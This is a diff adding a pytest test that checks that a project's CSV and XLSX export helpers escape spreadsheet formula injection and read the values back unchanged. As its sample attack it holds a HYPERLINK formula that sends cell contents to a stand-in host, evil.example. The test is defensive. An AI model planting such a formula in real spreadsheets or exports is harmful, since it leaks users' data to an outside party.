@@ -59,3 +59,19 @@ def test_names_refuse_invisible_characters_and_texts_refuse_direction_overrides(
     with pytest.raises(ValidationError):
         no_invisible_characters("text \u202e reversed", multiline=True)
     assert invisible_characters("a\u0000b", multiline=True) == ["\u0000"]
+
+
+def test_exported_cells_never_run_as_formulas_and_read_back_as_typed():
+    import openpyxl
+
+    from core.exports import csv_cell, from_csv_cell, xlsx_append
+
+    attack = '=HYPERLINK("http://evil.example/?leak="&A3,"Click")'
+    for value in (attack, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
+        assert csv_cell(value).startswith("'")
+        assert from_csv_cell(csv_cell(value)) == value
+    assert csv_cell("Deirna") == "Deirna" and csv_cell(12) == 12 and csv_cell(-5) == -5
+    assert from_csv_cell("'quoted by a person") == "'quoted by a person"
+    sheet = openpyxl.Workbook().active
+    xlsx_append(sheet, [attack, 3])
+    assert sheet["A1"].data_type == "s" and sheet["A1"].value == attack and sheet["B1"].data_type == "n"
